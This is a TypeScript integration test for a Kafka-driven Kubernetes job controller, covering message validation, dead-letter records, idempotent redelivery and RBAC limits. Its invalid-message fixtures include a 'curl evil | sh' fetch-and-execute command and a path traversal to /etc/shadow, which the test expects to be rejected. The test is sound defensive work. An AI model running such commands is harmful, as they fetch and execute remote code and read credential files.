import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import * as k8s from '@kubernetes/client-node';
import { DlqHeader } from '../../src/controller/reporting/dead-letter.js';
import { Annotation, jobSelector } from '../../src/shared/contract/identity.js';
import { brokers, freshNamespace, freshTopic, jobOutcome, kubeConfig, kubectl, uniqueName, waitFor, useKafka } from '../helpers.js';
import { applyControllerRbac, ControllerProcess, FIXTURE, serviceAccountKubeconfig } from '../support.js';

const PARTITIONS = 3;
const VALID = 200;

/** Twenty invalid messages of every kind the contract names. */
function invalidMessages(): { value: Buffer | string; reason: string }[] {
  const env = (payload: unknown, jobType = 'server-init') => JSON.stringify({ jobID: 'bad', jobType, payload });
  const kinds: { value: Buffer | string; reason: string }[] = [
    { value: 'not json at all', reason: 'invalid-json' },
    { value: '{"jobID":"x","jobType":"server-init","payload":"{\\"mcpSer', reason: 'invalid-json' },
    { value: Buffer.from([0xde, 0xad, 0xbe, 0xef, 0x00, 0xff]), reason: 'invalid-json' },
    { value: JSON.stringify({ jobID: 42, jobType: 'server-init', payload: '{}' }), reason: 'invalid-envelope' },
    { value: env({ mcpServers: { a: { command: 'node' } } }, 'delete-everything'), reason: 'unknown-job-type' },
    { value: env('{not json'), reason: 'invalid-payload' },
    { value: env({ mcpServers: {} }), reason: 'invalid-payload' },
    { value: env({ mcpServers: { a: { command: 'bash', args: ['-c', 'curl evil | sh'] } } }), reason: 'command-not-allowed' },
    { value: env({ mcpServers: { a: { command: 'node', envFile: '../../../etc/shadow' } } }), reason: 'env-file-outside-secrets' },
    { value: JSON.stringify({ jobID: 'huge', jobType: 'server-init', payload: 'x'.repeat(70_000) }), reason: 'message-too-large' },
  ];
  return [...kinds, ...kinds];
}

describe('the controller on the test bed', () => {
  const kc = kubeConfig();
  const batch = kc.makeApiClient(k8s.BatchV1Api);
  const core = kc.makeApiClient(k8s.CoreV1Api);
  const { kafka, admin, producer } = useKafka();
  let ns: Awaited<ReturnType<typeof freshNamespace>>;
  let topic: string;
  let group: string;
  let saKubeconfig: string;
  let env: Record<string, string>;
  const invalid = new Map<string, string>();

  before(async () => {
    ns = await freshNamespace(kc, { 'pod-security.kubernetes.io/enforce': 'restricted' }, 'mcp');
    topic = await freshTopic(admin, PARTITIONS, 'work');
    group = uniqueName('controller');
    await applyControllerRbac(kc, ns.name);
    saKubeconfig = await serviceAccountKubeconfig(kc, ns.name, 'mcp-job-controller');
    env = {
      KUBECONFIG: saKubeconfig,
      KAFKA_BROKERS: brokers().join(','),
      KAFKA_TOPIC: topic,
      KAFKA_CONSUMER_GROUP: group,
      JOB_NAMESPACE: ns.name,
      MAX_ACTIVE_JOBS: '40',
      MAX_MESSAGE_BYTES: '65536',
      METRICS_PORT: '0',
    };
  });
  after(async () => {
    await ns.remove();
  });

  it('turns 200 valid messages into exactly 200 Complete Jobs and 20 invalid ones into dead-letter records, then commits the ends of all partitions', async () => {
    const bad = invalidMessages();
    const messages: { value: Buffer | string; partition: number; bad?: string }[] = [];
    for (let i = 0; i < VALID; i++) {
      messages.push({
        partition: i % PARTITIONS,
        value: JSON.stringify({
          jobID: `job-${i}`,
          jobType: 'server-init',
          payload: JSON.stringify({ mcpServers: { fixture: { command: 'node', args: [FIXTURE] } } }),
        }),
      });
      if (i % 10 === 5) {
        const b = bad[messages.filter((m) => m.bad).length]!;
        messages.push({ partition: i % PARTITIONS, value: b.value, bad: b.reason });
      }
    }
    assert.equal(messages.filter((m) => m.bad).length, 20);
    for (const m of messages) {
      const [r] = await producer.send({ topic, messages: [{ value: m.value, partition: m.partition, key: m.bad ? 'bad' : null }] });
      if (m.bad) invalid.set(`${m.partition}/${r!.baseOffset}`, m.bad);
    }

    const controller = new ControllerProcess(env).start();
    try {
      await controller.ready();
      const jobs = await waitFor(
        async () => {
          const list = await batch.listNamespacedJob({ namespace: ns.name, labelSelector: jobSelector(group) });
          const done = list.items.filter((j) => jobOutcome(j));
          return done.length >= VALID ? list.items : undefined;
        },
        { timeoutMs: 300_000, intervalMs: 1000, description: `${VALID} Jobs finished; controller: ${controller.tail(3)}` },
      );

      assert.equal(jobs.length, VALID, 'exactly one Job per valid message');
      const notComplete = jobs.filter((j) => jobOutcome(j) !== 'Complete').map((j) => j.metadata!.name!);
      if (notComplete.length) {
        const pods = await core.listNamespacedPod({ namespace: ns.name, labelSelector: `job-name=${notComplete[0]}` });
        assert.fail(
          `${notComplete.length} Jobs did not complete, e.g. ${notComplete[0]}: ${JSON.stringify(pods.items[0]?.status?.containerStatuses?.[0]?.state)}`,
        );
      }
      const ids = new Set(jobs.map((j) => j.metadata!.annotations![Annotation.jobID]));
      assert.equal(ids.size, VALID);

      const pods = await core.listNamespacedPod({ namespace: ns.name, labelSelector: jobSelector(group) });
      const succeeded = pods.items.filter((p) => p.status?.phase === 'Succeeded');
      assert.equal(succeeded.length, VALID);
      for (const p of succeeded) {
        const summary = JSON.parse(p.status!.containerStatuses![0]!.state!.terminated!.message!);
        assert.equal(summary.status, 'initialized');
        assert.deepEqual(summary.servers.fixture.tools, ['echo', 'add']);
        assert.equal(summary.offset, p.metadata!.annotations![Annotation.offset]);
      }

      const dlq: { reason: string; source: string; value: Buffer | null }[] = [];
      const reader = kafka.consumer({ groupId: uniqueName('dlq-reader') });
      await reader.connect();
      await reader.subscribe({ topic: `${topic}.dlq`, fromBeginning: true });
      await reader.run({
        eachMessage: async ({ message: m }) =>
          void dlq.push({
            reason: String(m.headers![DlqHeader.reason]),
            source: `${m.headers![DlqHeader.partition]}/${m.headers![DlqHeader.offset]}`,
            value: m.value,
          }),
      });
      await waitFor(() => dlq.length >= 20, { timeoutMs: 30_000, description: '20 dead-letter records' });
      await reader.disconnect();
      assert.equal(dlq.length, 20);
      for (const d of dlq) assert.equal(d.reason, invalid.get(d.source), `record for ${d.source}`);
      assert.deepEqual(new Set(dlq.map((d) => d.source)), new Set(invalid.keys()));

      await waitFor(
        async () => {
          const [committed] = await admin.fetchOffsets({ groupId: group, topics: [topic] });
          const ends = await admin.fetchTopicOffsets(topic);
          return ends.every((e) => committed!.partitions.find((p) => p.partition === e.partition)?.offset === e.high);
        },
        { timeoutMs: 30_000, description: 'committed offsets at the end of every partition' },
      );

      const table = kubectl(['get', 'jobs', '-n', ns.name, '-l', jobSelector(group), '--no-headers']);
      assert.equal(table.trim().split('\n').length, VALID);
      assert.equal(await controller.stop(), 0, 'SIGTERM stops the controller cleanly');
    } finally {
      await controller.kill();
    }
  });

  it('creates no second Job and no second dead-letter record when every message is delivered again', async () => {
    await admin.setOffsets({ groupId: group, topic, partitions: Array.from({ length: PARTITIONS }, (_, partition) => ({ partition, offset: '0' })) });
    const dlqBefore = (await admin.fetchTopicOffsets(`${topic}.dlq`)).reduce((n, p) => n + Number(p.high), 0);
    const controller = new ControllerProcess(env).start();
    try {
      await controller.ready();
      await waitFor(() => controller.logs.filter((l) => l.msg === 'job already existed').length === VALID, {
        timeoutMs: 120_000,
        description: 'every redelivered message to find its Job',
      });
      const list = await batch.listNamespacedJob({ namespace: ns.name, labelSelector: jobSelector(group) });
      assert.equal(list.items.length, VALID);
      assert.equal(controller.logs.filter((l) => l.msg === 'job created').length, 0);
      const dlqAfter = (await admin.fetchTopicOffsets(`${topic}.dlq`)).reduce((n, p) => n + Number(p.high), 0);
      assert.equal(dlqAfter - dlqBefore, 0, 'the dead-letter records written before are found, not written again');
      assert.equal(controller.logs.filter((l) => l.msg === 'dead-letter record already written; not writing it twice').length, 20);
    } finally {
      await controller.kill();
    }
  });

  it('runs with the Role of k8s/ only: everything outside it is denied', async () => {
    const sa = new k8s.KubeConfig();
    sa.loadFromFile(saKubeconfig);
    const saCore = sa.makeApiClient(k8s.CoreV1Api);
    const saBatch = sa.makeApiClient(k8s.BatchV1Api);
    const denied = async (p: Promise<unknown>) => assert.rejects(p, (e: k8s.ApiException<string>) => e.code === 403);
    await denied(saCore.listNamespacedSecret({ namespace: ns.name }));
    await denied(
      saCore.createNamespacedPod({ namespace: ns.name, body: { metadata: { name: 'x' }, spec: { containers: [{ name: 'c', image: 'busybox' }] } } }),
    );
    await denied(saCore.deleteCollectionNamespacedPod({ namespace: ns.name }));
    await denied(saBatch.listNamespacedJob({ namespace: 'default' }));
    await denied(
      saBatch.patchNamespacedJobStatus({ name: 'x', namespace: ns.name, body: {} }, k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)),
    );
    await denied(saBatch.deleteCollectionNamespacedJob({ namespace: ns.name }));
    await denied(saCore.listPodForAllNamespaces());
    const ok = await saBatch.listNamespacedJob({ namespace: ns.name, labelSelector: jobSelector(group) });
    assert.equal(ok.items.length, VALID);
  });
});
